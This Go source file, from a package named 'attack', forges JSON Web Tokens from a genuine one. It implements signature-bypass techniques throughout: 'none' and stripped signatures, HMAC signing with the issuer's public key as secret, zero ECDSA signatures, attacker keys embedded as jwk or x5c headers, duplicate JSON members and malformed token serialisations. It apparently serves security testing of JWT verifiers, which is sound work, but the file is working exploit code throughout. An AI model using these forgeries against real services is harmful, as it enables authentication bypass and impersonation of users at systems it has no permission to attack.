package attack

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	_ "crypto/sha256" // hashes of signatures
	_ "crypto/sha512"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"maps"
	"math/big"
	"regexp"
	"strconv"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
)

// Forgery says how a token is made from the genuine one. What it does not name
// stays as it is.
type Forgery struct {
	// Header and Claims are members to set; null takes one out. {now -60} in a text
	// stands for a number of seconds.
	Header map[string]any `yaml:"header,omitempty" json:"header,omitempty"`
	Claims map[string]any `yaml:"claims,omitempty" json:"claims,omitempty"`
	// HeaderFirst and ClaimsFirst are put, as they stand, before the first member:
	// a member that is there twice, which JSON written by a program never has.
	HeaderFirst string `yaml:"header-first,omitempty" json:"header-first,omitempty"`
	ClaimsFirst string `yaml:"claims-first,omitempty" json:"claims-first,omitempty"`
	// Sign says who signs: none (an empty signature), keep (the genuine signature),
	// flip (that one with a character changed), attacker (a new key), issuer (the
	// key that was given), zero and zero-der (an ECDSA signature of zeros), or HMAC
	// with a public key or a text: hmac-pem, hmac-pem-trimmed, hmac-der, hmac-jwk,
	// "hmac-text:…".
	Sign string `yaml:"sign" json:"sign"`
	// Carry puts the attacker's public key into the header, as jwk or x5c.
	Carry string `yaml:"carry,omitempty" json:"carry,omitempty"`
	// Form is compact where it is empty; two-parts, four-parts, json (the genuine
	// token beside a forged payload), or encrypted for the issuer.
	Form string `yaml:"form,omitempty" json:"form,omitempty"`
}

// genuine is a token taken apart.
type genuine struct {
	header, claims map[string]any
	parts          []string
}

var errNoJWT = errors.New("the token is no JWT: it has not three parts of base64url with JSON in the first two")

func takeApart(token string) (*genuine, error) {
	g := &genuine{parts: strings.Split(token, ".")}
	if len(g.parts) != 3 {
		return nil, errNoJWT
	}
	for i, into := range []*map[string]any{&g.header, &g.claims} {
		text, err := base64.RawURLEncoding.DecodeString(g.parts[i])
		if err != nil {
			return nil, errNoJWT
		}
		decoder := json.NewDecoder(bytes.NewReader(text))
		decoder.UseNumber()
		if decoder.Decode(into) != nil || *into == nil {
			return nil, errNoJWT
		}
	}
	return g, nil
}

// algorithm is the genuine token's.
func (g *genuine) algorithm() string {
	alg, _ := g.header["alg"].(string)
	return alg
}

// forge makes a token.
func (e *expander) forge(f *Forgery) (string, error) {
	if e.o.Token == "" {
		return "", missingError{"no token was given"}
	}
	g, err := takeApart(e.o.Token)
	if err != nil {
		return "", missingError{err.Error()}
	}
	header, err := e.members(g.header, f.Header)
	if err != nil {
		return "", err
	}
	claims, err := e.members(g.claims, f.Claims)
	if err != nil {
		return "", err
	}
	alg, _ := header["alg"].(string)
	if f.Sign == "attacker" {
		alg = g.algorithm()
	}
	var attacker crypto.Signer
	if f.Sign == "attacker" && !strings.HasPrefix(alg, "HS") {
		if attacker, err = e.o.attackerKey(alg); err != nil {
			return "", err
		}
		if err := carry(header, f.Carry, attacker); err != nil {
			return "", err
		}
	}
	if f.Sign == "keep" && f.Header == nil && f.HeaderFirst == "" && f.Claims == nil && f.ClaimsFirst == "" {
		return e.shape(f, g, g.parts[0], g.parts[1], g.parts[2])
	}
	first := encodePart(header, f.HeaderFirst)
	second := encodePart(claims, f.ClaimsFirst)
	signature, err := e.signature(f, g, alg, first+"."+second, attacker)
	if err != nil {
		return "", err
	}
	if f.Sign == "flip" {
		first, second = g.parts[0], g.parts[1]
	}
	return e.shape(f, g, first, second, signature)
}

func (e *expander) shape(f *Forgery, g *genuine, header, claims, signature string) (string, error) {
	switch f.Form {
	case "":
		return header + "." + claims + "." + signature, nil
	case "two-parts":
		return header + "." + claims, nil
	case "four-parts":
		return strings.Join(g.parts, ".") + "." + claims, nil
	case "json": // the form by which some libraries checked one payload and took another
		return fmt.Sprintf(`{"%s.%s.":"","protected":"%s","payload":"%s","signature":"%s"}`, header, claims, g.parts[0], g.parts[1], g.parts[2]), nil
	case "encrypted":
		return e.encrypted(header + "." + claims + "." + signature)
	}
	return "", fmt.Errorf("no form of a token is called %q", f.Form)
}

// encrypted wraps a token into a JWE that only the issuer's key opens.
func (e *expander) encrypted(token string) (string, error) {
	key, err := e.o.publicKey()
	if err != nil {
		return "", err
	}
	algorithm := jose.RSA_OAEP_256
	switch key.Key.(type) {
	case *rsa.PublicKey:
	case *ecdsa.PublicKey:
		algorithm = jose.ECDH_ES
	default:
		return "", missingError{"nothing can be encrypted for an Ed25519 key"}
	}
	encrypter, err := jose.NewEncrypter(jose.A256GCM, jose.Recipient{Algorithm: algorithm, Key: key.Key, KeyID: key.KeyID},
		(&jose.EncrypterOptions{}).WithType("JWT").WithContentType("JWT"))
	if err != nil {
		return "", err
	}
	object, err := encrypter.Encrypt([]byte(token))
	if err != nil {
		return "", err
	}
	return object.CompactSerialize()
}

// members returns an object with members set, or taken out.
func (e *expander) members(of, changes map[string]any) (map[string]any, error) {
	all := maps.Clone(of)
	for name, value := range changes {
		if value == nil {
			delete(all, name)
			continue
		}
		if text, isText := value.(string); isText {
			changed, err := e.claim(text, of[name])
			if err != nil {
				return nil, err
			}
			value = changed
		}
		all[name] = value
	}
	return all, nil
}

var nowForm = regexp.MustCompile(`^\{now ([+-]\d+)\}$`)

func (e *expander) claim(text string, genuine any) (any, error) {
	if m := nowForm.FindStringSubmatch(text); m != nil {
		seconds, err := strconv.Atoi(m[1])
		return time.Now().Unix() + int64(seconds), err
	}
	if text == "{shortened}" { // a part of the genuine one
		s, isText := genuine.(string)
		if !isText || len(s) < 2 {
			return nil, missingError{"the token has no such claim, or it is no text"}
		}
		return s[:len(s)-1], nil
	}
	return e.text(text)
}

// encodePart writes an object, with members before all others.
func encodePart(object map[string]any, first string) string {
	var b bytes.Buffer
	encoder := json.NewEncoder(&b)
	encoder.SetEscapeHTML(false)
	if err := encoder.Encode(object); err != nil {
		panic("attack: what was JSON has a JSON form: " + err.Error())
	}
	text := strings.TrimSpace(b.String())
	if first != "" {
		text = "{" + first + "," + text[1:]
	}
	return base64.RawURLEncoding.EncodeToString([]byte(text))
}

func (e *expander) signature(f *Forgery, g *genuine, alg, input string, attacker crypto.Signer) (string, error) {
	encode := base64.RawURLEncoding.EncodeToString
	if key, found := strings.CutPrefix(f.Sign, "hmac-text:"); found {
		return encode(mac("HS256", []byte(key), input)), nil
	}
	switch f.Sign {
	case "none":
		return "", nil
	case "keep":
		return g.parts[2], nil
	case "flip":
		return flip(g.parts[2], len(g.parts[2])/2), nil
	case "zero":
		return encode(make([]byte, 64)), nil
	case "zero-der":
		return encode([]byte{0x30, 6, 2, 1, 0, 2, 1, 0}), nil
	case "hmac-pem", "hmac-pem-trimmed", "hmac-der", "hmac-jwk":
		key, err := e.o.publicKey()
		if err != nil {
			return "", err
		}
		secret, err := secretOf(key, f.Sign)
		return encode(mac("HS256", secret, input)), err
	case "attacker":
		if attacker == nil { // the genuine one is an HMAC, too
			return encode(mac(alg, []byte(mark), input)), nil
		}
		signature, err := sign(alg, attacker, input)
		return encode(signature), err
	case "issuer":
		if e.o.SigningKey == nil {
			return "", missingError{"no signing key was given"}
		}
		signature, err := sign(g.algorithm(), e.o.SigningKey, input)
		return encode(signature), err
	}
	return "", fmt.Errorf("nobody who signs is called %q", f.Sign)
}

// secretOf is a public key as a text by which somebody could mistake it for an
// HMAC's secret.
func secretOf(key jose.JSONWebKey, form string) ([]byte, error) {
	if form == "hmac-jwk" {
		return key.MarshalJSON()
	}
	der, err := x509.MarshalPKIXPublicKey(key.Key)
	if err != nil {
		return nil, err
	}
	if form == "hmac-der" {
		return der, nil
	}
	text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
	if form == "hmac-pem-trimmed" {
		text = bytes.TrimSpace(text)
	}
	return text, nil
}

var hashes = map[string]crypto.Hash{"256": crypto.SHA256, "384": crypto.SHA384, "512": crypto.SHA512}

func hashOf(alg string) (crypto.Hash, error) {
	if len(alg) == 5 {
		if h, ok := hashes[alg[2:]]; ok {
			return h, nil
		}
	}
	return 0, missingError{fmt.Sprintf("tokens signed with %q can't be made here", alg)}
}

func mac(alg string, secret []byte, input string) []byte {
	hash, err := hashOf(alg)
	if err != nil {
		hash = crypto.SHA256
	}
	m := hmac.New(hash.New, secret)
	m.Write([]byte(input))
	return m.Sum(nil)
}

// sign makes a signature as JWS has it (RFC 7518 section 3).
func sign(alg string, key crypto.Signer, input string) ([]byte, error) {
	if k, ok := key.(ed25519.PrivateKey); ok && alg == "EdDSA" {
		return ed25519.Sign(k, []byte(input)), nil
	}
	hash, err := hashOf(alg)
	if err != nil {
		return nil, err
	}
	h := hash.New()
	h.Write([]byte(input))
	sum := h.Sum(nil)
	switch k := key.(type) {
	case *rsa.PrivateKey:
		switch alg[:2] {
		case "RS":
			return rsa.SignPKCS1v15(rand.Reader, k, hash, sum)
		case "PS":
			return rsa.SignPSS(rand.Reader, k, hash, sum, &rsa.PSSOptions{SaltLength: rsa.PSSSaltLengthEqualsHash})
		}
	case *ecdsa.PrivateKey:
		if alg[:2] == "ES" {
			r, s, err := ecdsa.Sign(rand.Reader, k, sum)
			if err != nil {
				return nil, err
			}
			size := (k.Params().BitSize + 7) / 8
			return append(r.FillBytes(make([]byte, size)), s.FillBytes(make([]byte, size))...), nil
		}
	}
	return nil, missingError{fmt.Sprintf("the key is none for %s", alg)}
}

// attackerKey returns a key of the attacker's own; one for all cases.
func (o *Options) attackerKey(alg string) (crypto.Signer, error) {
	if o.attacker != nil {
		return o.attacker, nil
	}
	var (
		key crypto.Signer
		err error
	)
	switch {
	case alg == "EdDSA":
		_, key, err = ed25519.GenerateKey(rand.Reader)
	case strings.HasPrefix(alg, "RS"), strings.HasPrefix(alg, "PS"):
		key, err = rsa.GenerateKey(rand.Reader, 2048)
	case alg == "ES256":
		key, err = ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	case alg == "ES384":
		key, err = ecdsa.GenerateKey(elliptic.P384(), rand.Reader)
	case alg == "ES512":
		key, err = ecdsa.GenerateKey(elliptic.P521(), rand.Reader)
	default:
		return nil, missingError{fmt.Sprintf("tokens signed with %q can't be made here", alg)}
	}
	if err == nil {
		o.attacker = key
	}
	return key, err
}

// carry puts a public key into a header.
func carry(header map[string]any, how string, key crypto.Signer) error {
	switch how {
	case "":
		return nil
	case "jwk":
		kid, _ := header["kid"].(string)
		header["jwk"] = jose.JSONWebKey{Key: key.Public(), KeyID: kid}
		return nil
	case "x5c":
		template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: mark}, NotAfter: time.Now().Add(time.Hour)}
		der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
		header["x5c"] = []string{base64.StdEncoding.EncodeToString(der)}
		return err
	}
	return fmt.Errorf("no way to carry a key is called %q", how)
}

// publicKey is the key of the issuer's that signed the genuine token.
func (o *Options) publicKey() (jose.JSONWebKey, error) {
	if len(o.JWKS) == 0 {
		return jose.JSONWebKey{}, missingError{"the issuer's public keys were not given"}
	}
	var set jose.JSONWebKeySet
	if err := json.Unmarshal(o.JWKS, &set); err != nil {
		return jose.JSONWebKey{}, missingError{"the issuer's public keys are no JSON Web Key Set"}
	}
	kid := ""
	if g, err := takeApart(o.Token); err == nil {
		kid, _ = g.header["kid"].(string)
	}
	for _, k := range set.Keys {
		if k.Valid() && k.IsPublic() && (kid == "" || k.KeyID == kid) {
			return k, nil
		}
	}
	return jose.JSONWebKey{}, missingError{"the issuer's public keys have none with the token's kid"}
}

// attackerSet is the attacker's public key as a key set.
func (o *Options) attackerSet() []byte {
	g, err := takeApart(o.Token)
	if err != nil {
		return nil
	}
	key, err := o.attackerKey(g.algorithm())
	if err != nil {
		return nil
	}
	kid, _ := g.header["kid"].(string)
	text, err := json.Marshal(jose.JSONWebKeySet{Keys: []jose.JSONWebKey{{Key: key.Public(), KeyID: kid, Use: "sig", Algorithm: g.algorithm()}}})
	if err != nil {
		return nil
	}
	return text
}
